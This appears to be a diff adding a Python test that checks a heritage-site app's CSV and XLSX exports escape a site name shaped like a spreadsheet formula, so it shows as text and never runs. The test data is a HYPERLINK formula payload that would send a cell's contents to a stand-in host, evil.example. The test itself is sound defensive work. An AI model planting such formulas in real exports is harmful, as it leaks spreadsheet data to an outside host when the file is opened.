@@ -307,3 +307,27 @@ def test_the_annual_report_fits_a_phone_screen(phone_page, page_watch, live_serv
         assert widths["page"] <= widths["inner"] == 390, (path, widths)
         assert widths["outside"] == [], (path, widths)
     assert page_watch.console_errors == []
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+
+
+def test_formula_like_names_stay_text_in_csv_and_xlsx(client, db, official):
+    """A relic named like a spreadsheet formula must not run as one when the priority
+    CSV or the annual report is opened in Excel or LibreOffice."""
+    import zipfile
+
+    db.execute(text("UPDATE sites SET name_vi = :n WHERE name_vi = 'Đình S1'"), {"n": EVIL})
+    db.flush()
+    csv_text = client.get("/officials/priorities?year=2025&format=csv").get_data(as_text=True)
+    row = next(line for line in csv_text.splitlines() if "HYPERLINK" in line)
+    assert ",\"'=HYPERLINK(" in row  # shown as text, not evaluated
+
+    data = client.get("/officials/report/2025.xlsx").data
+    with zipfile.ZipFile(io.BytesIO(data)) as book:
+        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
+        xml = "".join(book.read(n).decode() for n in sheets)
+    assert "<f>" not in xml  # no formula anywhere in the workbook
+    wb = load_workbook(io.BytesIO(data))
+    names = [r[4] for r in wb["Danh mục ưu tiên"].iter_rows(min_row=2, values_only=True)]
+    assert EVIL in names  # the name itself, intact
